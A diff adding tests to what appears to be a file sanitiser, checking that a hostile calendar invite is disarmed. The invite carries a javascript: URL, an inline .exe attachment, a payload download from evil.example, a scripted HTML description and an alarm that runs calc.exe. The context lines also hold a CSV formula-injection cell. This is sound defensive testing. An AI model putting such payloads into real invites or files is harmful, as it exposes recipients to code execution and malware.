@@ -231,3 +231,48 @@ def test_csv_cell_of_pipes_is_judged_in_linear_time(tmp_path: Path) -> None:
     assert {(f.kind, f.location) for f in report.items[0].findings} == {
         ("text.csv_formula", "row[3]/col[2]")}
     assert out.read_bytes().decode().split("\r\n")[2] == "佐藤,'=cmd|' /C calc'!A0"
+
+
+INVITE = (b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//Invite//EN\r\nMETHOD:REQUEST\r\n"
+          b"BEGIN:VEVENT\r\nUID:act-1@example.com\r\nSUMMARY:\xe5\xae\x9a\xe4\xbe\x8b\xe4\xbc\x9a\r\n"
+          b"DTSTART:20250610T120000Z\r\nDTEND:20250610T130000Z\r\n"
+          b"DESCRIPTION:Join at https://www.city.example.lg.jp/room\r\n")
+HOSTILE_EVENT = (
+    b"URL:javascript:alert(1)\r\n"
+    b"ATTACH;FMTTYPE=application/x-msdownload;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=run.e\r\n"
+    b" xe:TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA\r\n"
+    b"ATTACH:https://evil.example/payload.exe\r\n"
+    b"X-ALT-DESC;FMTTYPE=text/html:<html><body><script>alert(2)</script><p>Join</p></bod\r\n"
+    b" y></html>\r\n"
+    b"BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH;VALUE=URI:file:///c:/windows/system32/calc.e"
+    b"xe\r\nTRIGGER:-PT5M\r\nEND:VALARM\r\n"
+    b"BEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:https://evil.example/ring.wav\r\n"
+    b"TRIGGER:-PT10M\r\nEND:VALARM\r\n")
+END = b"END:VEVENT\r\nEND:VCALENDAR\r\n"
+
+
+def test_calendar_invitation_keeps_the_event_without_what_runs_or_fetches(
+        tmp_path: Path) -> None:
+    """Found with SpamAssassin's handler_ics_html.eml and a probe: a text/calendar part
+    went through untouched, verdict clean: an HTML description with a script (Outlook
+    shows it), an inline .exe and files fetched from elsewhere (ATTACH), a
+    javascript: URL, an alarm that runs a program."""
+    report, out = run(tmp_path, INVITE + HOSTILE_EVENT + END, "invite.ics")
+    assert report.input.type == "text.calendar"
+    assert report.verdict is Verdict.DISARMED
+    ev = "VCALENDAR[0]/VEVENT[0]"
+    assert {(f.kind, f.location) for f in report.items[0].findings} == {
+        ("calendar.url", f"{ev}/URL"), ("calendar.attachment", f"{ev}/ATTACH"),
+        ("calendar.html_description", f"{ev}/X-ALT-DESC"),
+        ("calendar.alarm_procedure", f"{ev}/VALARM[0]"),
+        ("calendar.attachment", f"{ev}/VALARM[1]/ATTACH")}
+    text = out.read_bytes()
+    for gone in (b"javascript", b"TVqQ", b"evil.example", b"<script", b"PROCEDURE"):
+        assert gone not in text
+    assert INVITE in text and text.endswith(b"TRIGGER:-PT10M\r\nEND:VALARM\r\n" + END)
+
+
+def test_plain_calendar_is_clean_and_unchanged(tmp_path: Path) -> None:
+    report, out = run(tmp_path, INVITE + END, "plain.ics")
+    assert report.verdict is Verdict.CLEAN
+    assert out.read_bytes() == INVITE + END
